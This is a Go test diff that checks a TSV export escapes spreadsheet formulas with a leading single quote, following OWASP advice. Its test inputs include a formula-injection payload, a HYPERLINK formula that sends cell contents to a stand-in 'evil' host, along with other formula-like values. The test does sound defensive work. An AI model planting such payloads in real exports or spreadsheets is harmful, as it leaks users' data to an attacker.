@@ -25,6 +25,22 @@ func TestDisagreementsTSV(t *testing.T) {
 		t.Errorf("got:\n%q\nwant:\n%q", b.String(), want)
 	}
 
+	// Spreadsheet formulas from the inputs are neutralised (OWASP: a leading single quote).
+	b.Reset()
+	err = DisagreementsTSV(&b, []agreement.Item{
+		{QID: "=HYPERLINK(\"http://evil/?\"&A1)", Scholar: "+1", Auditor: "-2", Final: "@SUM(A1)", Why: "\t=cmd"},
+		{QID: "\r=1+1", Scholar: "a=b", Auditor: "'quoted", Final: "", Why: " =x"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want = "qid\tscholar\tauditor\tfinal\twhy\n" +
+		"'=HYPERLINK(\"http://evil/?\"&A1)\t'+1\t'-2\t'@SUM(A1)\t' =cmd\n" +
+		"' =1+1\ta=b\t'quoted\t\t =x\n"
+	if b.String() != want {
+		t.Errorf("formulas: got:\n%q\nwant:\n%q", b.String(), want)
+	}
+
 	b.Reset()
 	if err := DisagreementsTSV(&b, nil); err != nil || b.String() != "qid\tscholar\tauditor\tfinal\twhy\n" {
 		t.Errorf("no items: %q, %v", b.String(), err)
